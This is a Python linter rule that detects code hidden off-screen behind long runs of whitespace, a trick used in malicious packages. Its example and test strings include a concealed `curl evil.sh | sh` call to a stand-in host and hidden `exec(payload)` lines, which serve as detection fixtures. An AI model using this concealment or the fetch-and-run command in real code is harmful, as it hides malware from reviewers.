"""Statements pushed out of sight past the right edge of the screen (DS19x)."""

from __future__ import annotations

import libcst

from analyzer.engines.cst.framework import CstRule
from analyzer.findings import Confidence, Region, Severity

# A reviewer's window, a GitHub diff view and most editors wrap or clip well before this.
HIDDEN_GAP = 60
FAR_RIGHT_COLUMN = 150


class CodeHiddenPastRightEdge(CstRule):
    id = "DS190"
    name = "statement-hidden-past-right-edge"
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    cwe = (506,)
    security_severity = "8.1"
    summary = "A statement is pushed off-screen by a long run of whitespace."
    what = (
        f"Reports a statement that follows `;` or a visible statement on the same line after "
        f"{HIDDEN_GAP} or more spaces or tabs, and statements that start past column "
        f"{FAR_RIGHT_COLUMN}."
    )
    why = (
        "Code placed far to the right is invisible in an editor without wrapping and in a "
        "side-by-side diff, yet runs like any other statement. Hiding an `exec`, an import or a "
        "network call this way is a known trick in malicious packages; no formatter ever produces it."
    )
    fix = "Put each statement on its own, normally indented line so that review sees it."
    example = 'import json' + ' ' * 80 + '; __import__("os").system("curl evil.sh | sh")\n'
    use_instead = 'import json\n'
    references = ("https://cwe.mitre.org/data/definitions/506.html",)

    VALID = (
        "import os; import sys\nx = 1  # a comment after code is fine\n",
        "TABLE = {\n    'a':                                                                   1,\n}\n",
        "x = 1" + " " * 80 + "# a comment far to the right hides nothing that runs\n",
    )
    INVALID = (
        "import json" + " " * 120 + "; exec(payload)\n",
        "def handler(event):\n    return event" + "\t" * 70 + "; send(event)\n",
    )

    def visit_SimpleStatementLine(self, node: libcst.SimpleStatementLine) -> None:
        for statement in node.body[:-1]:
            semicolon = getattr(statement, "semicolon", None)
            if not isinstance(semicolon, libcst.Semicolon):
                continue
            before = getattr(semicolon.whitespace_before, "value", "")
            after = getattr(semicolon.whitespace_after, "value", "")
            if len(before.expandtabs(1)) >= HIDDEN_GAP or len(after.expandtabs(1)) >= HIDDEN_GAP:
                self.report(node, "Statement hidden after a long run of whitespace on this line.")
                return

    def check_text(self) -> None:
        for number, line in enumerate(self.context.text.splitlines(), start=1):
            stripped = line.lstrip(" \t")
            indent = len(line) - len(stripped)
            if stripped and not stripped.startswith("#") and indent >= FAR_RIGHT_COLUMN:
                self.report_at(
                    Region(number, indent + 1, number, len(line) + 1),
                    f"Code starts at column {indent + 1}, far past the right edge of a normal view.",
                )
